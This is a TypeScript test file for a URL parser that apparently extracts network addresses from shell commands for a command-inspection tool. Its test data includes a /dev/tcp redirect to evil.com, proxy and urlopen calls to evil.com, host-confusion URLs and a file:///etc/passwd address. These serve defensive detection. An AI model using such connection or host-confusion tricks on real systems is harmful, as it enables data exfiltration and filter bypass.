import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { MAX_URLS, urlFacts } from "../../../src/input/urls/facts.ts";
import { type Address, parseUrl } from "../../../src/input/urls/parse.ts";
import { connections } from "../../../src/input/urls/programs.ts";
import { commandOf, shellOf } from "../paths/command.ts";

const spell = ({ scheme, host, port, path }: Address) =>
  `${scheme}://${host}${port === undefined ? "" : `:${port}`}${path}`;

describe("the host of an address", () => {
  test.each([
    ["https://Example.COM/a?b#c", "https://example.com/a"],
    ["https://example.com.:443/", "https://example.com/"],
    ["http://example.com:8080/x", "http://example.com:8080/x"],
    ["http://good.com@evil.com/", "http://evil.com/"],
    ["http://good.com:80@evil.com/", "http://evil.com/"],
    ["http://evil.com\\@good.com/", "http://evil.com/@good.com/"],
    ["http://2130706433/", "http://127.0.0.1/"],
    ["http://0x7f.1/", "http://127.0.0.1/"],
    ["http://0177.0.0.1/", "http://127.0.0.1/"],
    ["http://[::1]:3000/", "http://::1:3000/"],
    ["http://[::ffff:127.0.0.1]/", "http://127.0.0.1/"],
    ["http://bücher.example/", "http://xn--bcher-kva.example/"],
    ["http://ｅxample.com/", "http://example.com/"],
    ["http://exam%70le.com/", "http://example.com/"],
    ["ht\ntp://example.com/", "http://example.com/"],
    ["ssh://git@Example.com/x", "ssh://example.com/x"],
    ["git+ssh://git@example.com/x", "git+ssh://example.com/x"],
    ["s3://bucket/key", "s3://bucket/key"],
    ["file:///etc/passwd", "file:///etc/passwd"],
  ])("%j is %s", (text, expected) => {
    const address = parseUrl(text);
    expect(address && spell(address)).toBe(expected);
  });

  test.each(["", "example.com", "data:text/plain,x", "javascript:alert(1)", "mailto:a@b.c", "http://", "http://a b/"])(
    "%j has none",
    (text) => {
      expect(parseUrl(text)).toBeUndefined();
    },
  );
});

const table = readFileSync(new URL("./commands.txt", import.meta.url), "utf8");
describe("addresses of commands", () => {
  const rows = table.split("\n").flatMap((line) => (line.includes(" => ") ? [line.split(" => ")] : []));
  test.each(rows)("%s => %s", (line = "", expected = "") => {
    const found = urlFacts([], shellOf(commandOf(line))).urls.map((url) => spell(url));
    expect(found.join(", ")).toBe(expected === "-" ? "" : expected);
  });

  test("a redirect to /dev/tcp is a connection", () => {
    const redirects = [{ op: ">", target: "/dev/tcp/evil.com/443" }];
    expect(urlFacts([], shellOf({ ...commandOf("cat"), redirects })).urls.map((url) => spell(url))).toEqual([
      "tcp://evil.com:443",
    ]);
  });

  test("an assignment and code can hold one", () => {
    const assignments = [{ name: "https_proxy", value: "http://evil.com:3128" }];
    const code = { language: "python", text: "urlopen('https://evil.com/x').read()" };
    const facts = urlFacts([], shellOf({ ...commandOf("python -c x"), assignments, code }));
    expect(facts.urls.map((url) => spell(url))).toEqual(["http://evil.com:3128/", "https://evil.com/x"]);
  });
});

describe("address facts", () => {
  test("what the tool and the prompt name comes first, each once", () => {
    const tool = { text: "https://a.example/", source: "tool" } as const;
    const facts = urlFacts(
      [tool, tool, { text: "b.example/x", source: "prompt" }],
      shellOf(commandOf("curl a.example")),
    );
    expect(facts.urls.map(({ url, source, command }) => [url, source, command])).toEqual([
      ["https://a.example/", "tool", undefined],
      ["http://b.example/x", "prompt", undefined],
      ["http://a.example", "shell", 0],
    ]);
  });

  test("there is an end, and it is marked", () => {
    const many = Array.from({ length: MAX_URLS + 5 }, (_, index) => `http://h${index}.example`).join(" ");
    expect(urlFacts([], shellOf(commandOf(`curl ${many}`)))).toMatchObject({ complete: false });
  });

  test("never throws, whatever the words are", () => {
    const word = fc.oneof(
      fc.string(),
      fc.webUrl(),
      fc.constantFrom("-x", "://", "http://", "@", "a@b:c", "[::", "{a,b}", "%", "TCP:"),
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...Object.keys(connections), "nobody"),
        fc.array(fc.option(word)),
        (program, words) => {
          urlFacts([], shellOf({ ...commandOf(program), argv: [program, ...words] }));
        },
      ),
      { numRuns: 2000 },
    );
  });
});
